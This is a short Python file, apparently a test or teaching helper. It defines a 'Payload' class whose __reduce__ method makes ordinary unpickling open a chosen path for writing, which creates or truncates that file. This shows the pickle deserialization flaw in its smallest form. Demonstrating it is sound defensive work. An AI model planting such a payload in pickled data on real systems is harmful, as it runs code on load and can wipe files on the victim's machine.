"""What an attacker puts in a pickle."""


class Payload:
    """Makes a file when ordinary unpickling reads it."""

    def __init__(self, target):
        self.target = target

    def __reduce__(self):
        return (open, (str(self.target), "w"))
